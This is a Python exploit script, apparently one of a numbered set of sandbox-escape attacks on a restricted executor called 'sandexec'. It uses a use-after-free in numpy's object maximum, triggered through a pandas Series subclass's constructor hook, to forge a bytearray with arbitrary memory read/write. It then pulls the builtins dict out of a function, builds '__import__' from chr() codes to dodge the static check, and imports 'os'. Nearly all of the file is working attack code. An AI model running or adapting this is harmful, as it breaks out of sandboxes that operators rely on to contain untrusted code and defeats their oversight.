# source: numpy 1.24 umath npy_ObjectMax/npy_ObjectMin (funcs.inc.src) via PyUFunc_OO_O: compares two borrowed items, then Py_INCREFs and stores the chosen one; pandas NDFrame._constructor hook; sandexec README, "The static check", comparison rule (abs()/round()/comparisons allowed)
# family: library code calling back into the script from inside a comparison: __ge__ 'return abs(self.k) is None' on a pd.Series subclass runs its __init__ through _constructor
# goal: same hole as attack12bv_041_comparison_ge_maximum_abs.py, carried on: with the forged bytearray's read/write, put the builtins dict (read from a def's func_builtins) into a __slots__ field, then __import__ by a chr()-built name: imports 'this' (prints the Zen) and 'os' (uid shown)
import numpy as np
import pandas as pd

armed = []
objs = np.empty(1, dtype=object)


def addr_of_type(t):
    y = hash(t) % (1 << 64)
    return ((y << 4) | (y >> 60)) % (1 << 64)


BA = addr_of_type(bytearray)


def q(v):
    return (v % (1 << 64)).to_bytes(8, "little")


class K(pd.Series):
    def __init__(self, data=None, index=None):
        super().__init__(data=data, index=index)
        if len(armed) > 0:
            armed.clear()
            objs[0] = 0

    @property
    def _constructor(self):
        return K


class A:
    def __init__(self, k):
        self.k = k

    def __ge__(self, other):
        return abs(self.k) is None


payload = q(1 << 40) + q(BA) + q(1 << 60) + q((1 << 60) + 1) + q(0) + q(0) + q(0)
payload = payload + bytes(732 - len(payload))
left = np.empty(1, dtype=object)
left[0] = A(K([2.0]))
objs[0] = bytes(700)
armed.append(1)
out = np.maximum(left, objs)
spare = bytearray(payload)
fake = out[0]
print("fake object:", type(fake), len(fake))


def rd(addr):
    return int.from_bytes(bytes(fake[addr:addr + 8]), "little")


def wr(addr, v):
    fake[addr:addr + 8] = q(v)


def where(x):
    return int(repr(x).split("at ")[1][:-1], 16)


class Box:
    __slots__ = ("v",)


def probe():
    return 0


box = Box()
box.v = None
fn = where(probe)
bdict = rd(fn + 24)
wr(bdict, rd(bdict) + 1)
wr(where(box) + 16, bdict)
table = box.v
name = "".join(chr(c) for c in (95, 95, 105, 109, 112, 111, 114, 116, 95, 95))
imp = table[name]
print("got", imp)
mod = imp("".join(chr(c) for c in (116, 104, 105, 115)))
osm = imp("".join(chr(c) for c in (111, 115)))
print("module os:", osm, "uid", osm.getuid())
